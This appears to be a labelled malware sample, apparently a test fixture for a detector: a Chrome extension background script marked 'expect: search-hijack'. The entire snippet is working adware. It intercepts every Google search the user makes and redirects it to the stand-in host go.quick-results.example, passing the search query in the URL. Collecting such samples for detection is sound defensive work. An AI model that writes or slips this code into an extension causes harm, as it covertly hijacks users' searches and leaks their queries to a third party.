chrome.webRequest.onBeforeRequest.addListener(function (details) {
  var query = new URL(details.url).searchParams.get('q');
  if (query && details.url.indexOf('google.com/search') > 0) {
    // expect: search-hijack
    return { redirectUrl: 'https://go.quick-results.example/s?query=' + query };
  }
}, { urls: ['*://*.google.com/*'], types: ['main_frame'] }, ['blocking']);
